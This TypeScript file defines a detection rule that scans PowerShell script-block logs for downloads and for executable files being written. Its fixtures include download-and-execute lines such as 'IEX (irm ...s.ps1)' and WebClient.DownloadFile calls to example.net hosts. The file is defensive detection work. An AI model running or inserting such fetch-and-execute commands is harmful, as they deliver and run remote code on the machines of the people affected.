import { orderedDownloads } from '../downloads.ts'
import { fileOn, proofOf, urlEntity } from '../drafts.ts'
import { exampleEvent } from '../example.ts'
import type { RelationDraft, Rule } from '../rule.ts'
import { scriptProcess } from '../script-process.ts'
import { writtenFiles } from '../script-writes.ts'

/** The record carries the id of its process. */
const NAMED_PROCESS = 0.9
/** PowerShell ran the block; one PowerShell of this user was running. */
const ONE_PROCESS = 0.8
/** Which process it was is not in the record; the endpoint is. */
const ENDPOINT_ONLY = 0.7
/** The address does not stand beside the word that fetches. */
const NAMED = 0.55

const rule: Rule = {
  id: 'script.block',
  order: 34,
  relations: ['connected-to', 'downloaded-to', 'dropped', 'located-on'],
  scope: 'endpoint',
  attack: ['T1059.001', 'T1105'],
  texts: {
    en: {
      title: 'Downloads and files in PowerShell scripts',
      description:
        'The text of a script that PowerShell ran fetches an address or writes a file that can be run or opened. The process is the one whose id the record carries, else the one PowerShell of that user running at the time, else only the endpoint is known.',
      needs: 'PowerShell script block logging (4104); process starts to find the process.',
      falsePositives:
        'A script block is logged when it is compiled: code that was never reached is logged as well. Administration scripts download tools.',
      'reason.script': 'A script that ran in {program} at this time fetches this address.',
      'reason.script_host':
        'A PowerShell script on this endpoint fetches this address; the record names no process.',
      'reason.saved': 'A PowerShell script was told to save the download as this file.',
      'reason.written': 'A script that ran in {program} writes this file.',
      'reason.host': 'A script on this endpoint writes this file.',
    },
    'zh-TW': {
      title: 'PowerShell 指令碼中的下載與檔案',
      description:
        'PowerShell 執行的指令碼內容會取得某個位址，或寫入可執行、可開啟的檔案。處理程序依紀錄所載的識別碼而定；若無，則為當時該使用者唯一執行中的 PowerShell，否則僅能確定端點。',
      needs: 'PowerShell 指令碼區塊記錄（4104）；另需處理程序啟動紀錄以找出處理程序。',
      falsePositives: '指令碼區塊在編譯時即被記錄，未實際執行到的程式碼也會列入。管理用指令碼也會下載工具。',
      'reason.script': '當時在 {program} 中執行的指令碼會取得此位址。',
      'reason.script_host': '此端點上的 PowerShell 指令碼會取得此位址，紀錄未載明處理程序。',
      'reason.saved': 'PowerShell 指令碼受命將下載內容存為此檔案。',
      'reason.written': '在 {program} 中執行的指令碼會寫入此檔案。',
      'reason.host': '此端點上的指令碼會寫入此檔案。',
    },
    ja: {
      title: 'PowerShell スクリプト内のダウンロードとファイル',
      description:
        'PowerShell が実行したスクリプトの本文が、アドレスから取得するか、実行や閲覧ができる種類のファイルを書き込みます。プロセスは記録にある ID のもの、なければその時点で動作していたそのユーザーの唯一の PowerShell で、それも不明ならエンドポイントのみを示します。',
      needs: 'PowerShell のスクリプトブロックのログ（4104）。プロセスの特定にはプロセス起動の記録。',
      falsePositives:
        'スクリプトブロックはコンパイル時に記録されるため、実行されなかった部分も含まれます。管理用スクリプトもツールをダウンロードします。',
      'reason.script': 'この時点で {program} で実行されたスクリプトが、このアドレスから取得します。',
      'reason.script_host':
        'このエンドポイントの PowerShell スクリプトがこのアドレスから取得します。記録にプロセスは示されていません。',
      'reason.saved':
        'PowerShell スクリプトは、ダウンロードした内容をこのファイルに保存するよう命じられました。',
      'reason.written': '{program} で実行されたスクリプトがこのファイルを書き込みます。',
      'reason.host': 'このエンドポイントのスクリプトがこのファイルを書き込みます。',
    },
  },
  matches: [
    {
      title:
        'a script that downloads a program, with its PowerShell running; one on a host without process starts',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
        }),
        exampleEvent('script-block', 2, {
          detail:
            "(New-Object Net.WebClient).DownloadFile('https://cdn.example.net/a', 'C:\\ProgramData\\a.exe')",
        }),
        exampleEvent('script-block', 3, {
          host: 'WS-02',
          detail: "IEX (irm 'https://cdn.example.net/s.ps1')",
        }),
      ],
      finds: [
        'connected-to: powershell.exe -> https://cdn.example.net/a',
        'downloaded-to: https://cdn.example.net/a -> a.exe',
        'connected-to: WS-02 -> https://cdn.example.net/s.ps1',
      ],
    },
    {
      title: 'two PowerShells, the record names one, and its script writes a program',
      items: [
        exampleEvent('process-start', 0, {
          processPath: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe',
          pid: 5,
        }),
        exampleEvent('process-start', 1, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 6,
        }),
        exampleEvent('script-block', 2, {
          pid: 6,
          detail:
            "[IO.File]::WriteAllBytes('C:\\ProgramData\\b.exe', $bytes); irm https://cdn.example.net/ok",
        }),
      ],
      finds: [
        'dropped: powershell.exe -> b.exe',
        'located-on: b.exe -> WS-01',
        'connected-to: powershell.exe -> https://cdn.example.net/ok',
      ],
    },
  ],
  ignores: [
    {
      title: 'scripts that mention an address without fetching it',
      items: [
        exampleEvent('script-block', 0, {
          detail: '# see https://docs.example.org/install\nGet-ChildItem C:\\Windows',
        }),
        exampleEvent('script-block', 1, {
          detail: "Get-Content C:\\x\\a.exe | Out-File 'C:\\Logs\\report.log'",
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<RelationDraft> {
    for (const event of view.events(['script-block'], ['detail', 'pid', 'processGuid'])) {
      const { detail } = event.fields
      if (event.endpointId === null || detail === undefined) continue
      const downloads = orderedDownloads(detail)
      const files = writtenFiles(detail)
      if (downloads.length === 0 && files.length === 0) continue
      const ran = scriptProcess(view, event)
      const sure = ran ? (ran.isNamed ? NAMED_PROCESS : ONE_PROCESS) : ENDPOINT_ONLY
      const program = ran?.process.draft.name ?? ''
      for (const { url, path, isSameStatement } of downloads) {
        const page = urlEntity(url)
        if (!page) continue
        const base = { at: event.at, confidence: isSameStatement ? sure : NAMED, proof: proofOf(event) }
        if (ran)
          yield {
            ...base,
            kind: 'connected-to',
            from: ran.process.draft,
            to: page,
            reason: 'script',
            params: { program },
          }
        else yield { ...base, kind: 'connected-to', from: event.endpointId, to: page, reason: 'script_host' }
        if (path !== undefined)
          yield {
            ...base,
            kind: 'downloaded-to',
            from: page,
            to: fileOn(view.entity(event.endpointId), path),
            reason: 'saved',
          }
      }
      for (const path of files) {
        const to = fileOn(view.entity(event.endpointId), path)
        const base = { at: event.at, confidence: sure, proof: proofOf(event) }
        if (ran)
          yield {
            ...base,
            kind: 'dropped',
            from: ran.process.draft,
            to,
            reason: 'written',
            params: { program },
          }
        yield { ...base, kind: 'located-on', from: to, to: event.endpointId, reason: 'host' }
      }
    }
  },
}
export default rule
